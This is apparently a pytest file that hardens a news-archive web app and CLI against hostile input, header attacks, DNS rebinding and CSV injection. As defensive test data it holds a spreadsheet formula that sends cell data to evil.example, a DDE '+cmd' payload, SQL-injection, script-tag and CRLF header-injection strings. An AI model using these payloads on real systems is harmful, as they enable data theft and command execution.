"""Hostile input at every door: the web UI, the JSON API and the CLI answer malformed or
out-of-range input with one clear 400 / exit 2, every response carries the security headers,
the Host header is checked (DNS rebinding), tokens of any bytes are compared safely, and CSV
exports cannot carry a live spreadsheet formula."""

import asyncio
import base64
import csv
import io
import json
import random
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlencode

import pytest

from crawler.archive.reader import Archive
from crawler.config import config_from_dict
from tests.articles import open_db, store
from tests.conftest import CISMOA_OPED, create_database, run_cli, write_config
from tests.web import http_request, web_server

NOW = datetime.now(UTC)
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"FATF grey list")'
FORMULA_TEXT = (
    "+cmd|' /C calc'!A0 FATF grey list. Pakistan left the FATF grey list, the Financial "
    "Action Task Force said. "
) * 3
HEADERS = (
    "Content-Security-Policy",
    "X-Content-Type-Options",
    "X-Frame-Options",
    "Referrer-Policy",
)
DEEP = "(" * 3000 + "a" + ")" * 3000


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    tmp = tmp_path_factory.mktemp("hostile-web")
    raw = {
        "database": {"url": f"sqlite:///{tmp / 'mw.db'}"},
        "catalogue": {"include": []},
        "outlets": [{"id": "dawn", "name": "Dawn", "feeds": ["https://dawn.example/f"]}],
    }
    config_path = write_config(tmp / "mediawatch.toml", raw)
    config = config_from_dict(raw, str(config_path))
    db = open_db(config)
    ids = {
        "cismoa": store(db, config, "dawn", "dawn.example/c", "CISMOA", CISMOA_OPED, NOW).id,
        "formula": store(
            db, config, "dawn", "dawn.example/f", FORMULA_TITLE, FORMULA_TEXT, NOW - timedelta(1)
        ).id,
    }
    db.dispose()
    log = tmp / "web.log"
    with web_server(config_path, log) as base:
        yield {"base": base, "ids": ids, "config": config_path, "tmp": tmp, "log": log}


def assert_headers(headers: Any, what: str) -> None:
    missing = [h for h in HEADERS if not headers.get(h)]
    assert not missing, f"{what}: no {missing}"
    assert "default-src 'none'" in headers["Content-Security-Policy"]


def assert_bad_request(world: dict[str, Any], path: str, words: str) -> None:
    """A 400 with one line saying what is wrong (JSON for the API), and the headers."""
    status, headers, body = http_request(world["base"] + path)
    assert status == 400, (path, status, body[:300])
    assert_headers(headers, path)
    text = json.loads(body)["error"] if path.startswith("/api/") else body.decode()
    assert words in text, (path, text[:300])
    assert "Traceback" not in text


def test_double_exclusion_is_a_clear_400(world: dict[str, Any]) -> None:
    q = quote("x NOT (NOT a)")
    for path in (f"/api/articles?q={q}", f"/?q={q}", f"/export.csv?q={q}"):
        assert_bad_request(world, path, "excluded")


def test_deep_nesting_is_a_clear_400(world: dict[str, Any]) -> None:
    for path in (f"/api/articles?q={quote(DEEP)}", f"/?q={quote(DEEP)}"):
        assert_bad_request(world, path, "nested more than 32 deep")
    assert_bad_request(world, f"/api/articles?q={'a+' * 6000}", "longer than 10000 characters")
    fine = quote("(" * 32 + "FATF" + ")" * 32)
    assert http_request(world["base"] + f"/api/articles?q={fine}")[0] == 200


def test_huge_numbers_are_a_clear_400(world: dict[str, Any]) -> None:
    big = "1" + "0" * 30
    assert_bad_request(world, f"/api/articles?page={big}", "page: must be a whole number")
    assert_bad_request(world, f"/?q=FATF&page={big}", "page: must be a whole number")
    assert_bad_request(world, f"/export.csv?limit={big}", "limit: must be a whole number")
    assert_bad_request(world, f"/api/articles/{big}", "article id")
    assert_bad_request(world, f"/articles/{big}", "article id")
    assert_bad_request(world, "/api/articles?min_score=1e999", "finite")
    assert http_request(world["base"] + "/api/articles/99999")[0] == 404  # in range, not there


def test_far_past_since_is_a_clear_400(world: dict[str, Any]) -> None:
    assert_bad_request(world, "/api/articles?since=99999999d", "since '99999999d'")
    assert_bad_request(world, "/?since=99999999d", "before the year 1")
    assert_bad_request(world, "/api/articles?until=0001-01-01T00:00:00%2B05:00", "until")


def test_control_characters_are_a_clear_400(world: dict[str, Any]) -> None:
    assert_bad_request(world, "/api/articles?topic=fatf%00x", "topic: contains a control")
    status, _, body = http_request(world["base"] + "/api/articles?q=FATF%00grey")
    assert status == 200 and json.loads(body)  # NUL only separates words in a query


def test_csv_export_neutralises_formulas(world: dict[str, Any]) -> None:
    status, headers, body = http_request(world["base"] + "/export.csv?outlet=dawn&since=2d")
    assert status == 200 and headers["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
    assert sorted(r["title"] for r in rows) == ["'" + FORMULA_TITLE, "CISMOA"]
    assert any(r["snippet"].startswith("'+cmd") for r in rows), rows
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    cli = run_cli("--config", str(world["config"]), "search", "calc", "--format", "csv")
    assert cli.returncode == 0, cli.stderr
    cells = [c for r in csv.reader(io.StringIO(cli.stdout)) for c in r]
    assert "'" + FORMULA_TITLE in cells and FORMULA_TITLE not in cells


def test_dns_rebinding_host_is_refused(world: dict[str, Any]) -> None:
    base, port = world["base"], world["base"].rsplit(":", 1)[1]
    for host in ("evil.example", f"evil.example:{port}", "127.0.0.1.evil.example", "[::2]"):
        status, headers, body = http_request(base + "/api/articles", {"Host": host})
        assert status == 400 and b"host" in body.lower(), host
        assert_headers(headers, f"Host {host}")
    for host in (f"127.0.0.1:{port}", f"localhost:{port}", f"[::1]:{port}", "LOCALHOST"):
        assert http_request(base + "/api/articles", {"Host": host})[0] == 200, host


def test_allowed_hosts_and_token_from_the_environment(tmp_path: Path) -> None:
    config = write_config(
        tmp_path / "m.toml",
        {
            "database": {"url": f"sqlite:///{tmp_path / 'x.db'}"},
            "catalogue": {"include": []},
            "web": {"allowed_hosts": ["news.example.org", "127.0.0.1"], "token": "from-file"},
        },
    )
    token = "sécret-ü"
    create_database(f"sqlite:///{tmp_path / 'x.db'}")  # read-only commands never create one
    with web_server(config, tmp_path / "log", {"MEDIAWATCH_WEB_TOKEN": token}) as base:
        utf8 = token.encode()
        ok = {"Authorization": b"Bearer " + utf8}
        assert http_request(base + "/api/articles", {**ok, "Host": "news.example.org"})[0] == 200
        assert http_request(base + "/api/articles", {**ok, "Host": "localhost"})[0] == 400
        assert http_request(base + "/api/articles", ok)[0] == 200
        assert http_request(base + "/api/articles", {"Authorization": "Bearer from-file"})[0] == 401
        basic = b"Basic " + base64.b64encode(b"me:" + utf8)
        assert http_request(base + "/api/articles", {"Authorization": basic})[0] == 200
        for bad in (
            b"Bearer \xff\xfe\xc3\xa9",
            "Bearer sécret".encode("latin-1"),
            b"Basic " + base64.b64encode("me:ümlaut".encode()),
            b"Basic " + base64.b64encode(b"me:\xff\x00"),
            b"Basic \xc3\xa9\xc3\xa9==",
            b"Basic !!!",
        ):
            status, headers, _ = http_request(base + "/api/articles", {"Authorization": bad})
            assert status == 401, bad
            assert_headers(headers, "401")
        assert http_request(base + "/healthz")[0] == 200


def test_security_headers_on_errors_and_404s(world: dict[str, Any]) -> None:
    base = world["base"]
    for path, method, expected in [
        ("/no/such/page", "GET", 404),
        ("/static/../mediawatch.toml", "GET", 404),
        ("/api/articles/99999", "GET", 404),
        ("/articles/99999", "GET", 404),
        ("/api/articles?q=%22open", "GET", 400),
        ("/api/articles", "POST", 405),
        ("/healthz", "GET", 200),
        ("/static/style.css", "GET", 200),
    ]:
        status, headers, _ = http_request(base + path, method=method)
        assert status == expected, path
        assert_headers(headers, f"{method} {path}")


def test_a_bug_is_a_500_with_the_security_headers(tmp_path: Path) -> None:
    """Driven through the ASGI interface in-process: the bug is planted in this app only."""
    from crawler.web.app import create_app

    class Broken(Archive):
        def show(self, article_id: int) -> dict[str, Any]:
            raise RuntimeError("planted bug")

    config = config_from_dict({"catalogue": {"include": []}}, "(test)")
    app = create_app(config, Broken(None, None))  # type: ignore[arg-type]
    sent: list[dict[str, Any]] = []

    async def receive() -> dict[str, Any]:
        return {"type": "http.request", "body": b"", "more_body": False}

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)

    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": "GET",
        "scheme": "http",
        "path": "/api/articles/1",
        "raw_path": b"/api/articles/1",
        "root_path": "",
        "query_string": b"",
        "headers": [(b"host", b"127.0.0.1:8000")],
        "client": ("127.0.0.1", 1),
        "server": ("127.0.0.1", 8000),
    }
    with pytest.raises(RuntimeError, match="planted bug"):  # re-raised for the server's log
        asyncio.run(app(scope, receive, send))  # type: ignore[arg-type]
    start = sent[0]
    assert start["status"] == 500
    names = {k.decode().lower() for k, _ in start["headers"]}
    assert {h.lower() for h in HEADERS} <= names


VALUES = [
    "",
    "0",
    "-1",
    "1" + "0" * 30,
    "9" * 5000,
    "1e999",
    "nan",
    "-inf",
    "99999999d",
    "0001-01-01T00:00:00+05:00",
    "9999-12-31T23:59:59-14:00",
    "x NOT (NOT a)",
    DEEP[:2000] + DEEP[-2000:],
    '"open',
    "a OR",
    "-a -b",
    "NOT",
    "()" * 50,
    "\x00",
    "\ud800",
    "%",
    "%00",
    "%ff%fe",
    "'; DROP TABLE articles; --",
    "<script>alert(1)</script>",
    "تحریک طالبان",
    "पाकिस्तानी",
    "title:secret*",
    "a" * 3000,
    "\r\nSet-Cookie: x=1",
]
KEYS = ["q", "topic", "outlet", "since", "until", "min_score", "language", "page", "limit", "zz"]
PATHS = ["/", "/api/articles", "/export.csv", "/outlets", "/healthz", "/openapi.json"]


def random_value(rng: random.Random) -> str:
    kind = rng.random()
    if kind < 0.5:
        return rng.choice(VALUES)
    if kind < 0.7:
        return str(rng.choice([rng.randint(-(10**40), 10**40), rng.randint(-5, 600)]))
    alphabet = '()"-* ORNTAD:\x00\x1f%&=+\\/ابپ\u0903\u200d\U0001f600'
    if kind < 0.9:
        return "".join(rng.choice(alphabet) for _ in range(rng.randint(1, 40)))
    return "".join(chr(rng.randint(0, 0x10FFFF)) for _ in range(rng.randint(1, 12)))


def test_fuzz_no_5xx_and_headers_everywhere(world: dict[str, Any]) -> None:
    """1,000 seeded-random requests: every answer is < 500 and has the security headers."""
    rng = random.Random(20261126)
    base = world["base"]
    failures = []
    for i in range(1000):
        if rng.random() < 0.2:
            raw = random_value(rng)
            path = rng.choice(["/articles/", "/api/articles/", "/static/", "/"]) + quote(
                raw.encode("utf-8", "surrogatepass"), safe=""
            )
        else:
            params = [(rng.choice(KEYS), random_value(rng)) for _ in range(rng.randint(0, 4))]
            query = urlencode(
                [(k, v.encode("utf-8", "surrogatepass")) for k, v in params], doseq=False
            )
            path = rng.choice(PATHS) + ("?" + query if query else "")
        status, headers, body = http_request(base + path)
        if status >= 500 or any(not headers.get(h) for h in HEADERS):
            failures.append((i, path[:200], status, body[:200]))
    log = world["log"].read_text(errors="replace")
    assert not failures, f"{failures[:5]}\nserver log:\n{log[-3000:]}"


@pytest.mark.parametrize(
    ("args", "words"),
    [
        (["search", "x NOT (NOT a)"], "excluded"),
        (["search", DEEP], "nested more than"),
        (["search", "--since", "99999999d"], "before the year 1"),
        (["search", "--until", "0001-01-01T00:00:00+05:00"], "--until"),
        (["search", "--limit", "1" + "0" * 30], "--limit"),
        (["search", "--offset", "1" + "0" * 30], "--offset"),
        (["search", "--min-score", "nan"], "finite"),
        (["search", "--topic", "a\x01b"], "control character"),
        (["show", "1" + "0" * 30], "ID"),
        (["show", "0"], "ID"),
    ],
)
def test_cli_refuses_bad_input_with_exit_2(
    world: dict[str, Any], args: list[str], words: str
) -> None:
    result = run_cli("--config", str(world["config"]), *args)
    assert result.returncode == 2, result.stderr
    assert words in result.stderr and "Traceback" not in result.stderr
    assert "a bug" not in result.stderr
